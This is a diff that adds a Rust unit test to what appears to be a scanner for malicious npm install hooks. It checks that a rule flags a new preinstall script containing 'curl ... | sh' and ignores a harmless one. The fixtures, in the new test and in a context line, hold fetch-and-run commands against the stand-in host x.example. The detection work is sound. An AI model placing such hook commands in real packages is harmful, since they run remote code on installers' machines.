@@ -79,6 +79,33 @@ mod tests {
     }
 
     #[test]
+    fn download_inside_a_shell_script_the_hook_runs_fires() {
+        let hook = r#""scripts":{"preinstall":"sh preinstall.sh"}"#;
+        let script = "#!/bin/sh\ncurl -fsSL https://x.example/m | sh\n";
+        let f = diff_versions(
+            "1.0.0",
+            &[("package.json", &manifest("1.0.0", ""))],
+            "1.0.1",
+            &[
+                ("package.json", &manifest("1.0.1", hook)),
+                ("preinstall.sh", script),
+            ],
+        );
+        assert!(find(&f, RULE.code).is_some(), "{f:?}");
+        // The same hook running a harmless script stays quiet here.
+        let f = diff_versions(
+            "1.0.0",
+            &[("package.json", &manifest("1.0.0", ""))],
+            "1.0.1",
+            &[
+                ("package.json", &manifest("1.0.1", hook)),
+                ("preinstall.sh", "#!/bin/sh\necho ok\n"),
+            ],
+        );
+        assert!(find(&f, RULE.code).is_none(), "{f:?}");
+    }
+
+    #[test]
     fn unchanged_or_harmless_hooks_are_quiet() {
         let hook = r#""scripts":{"postinstall":"curl -s https://x.example/i.sh | sh"}"#;
         let f = diff_versions(
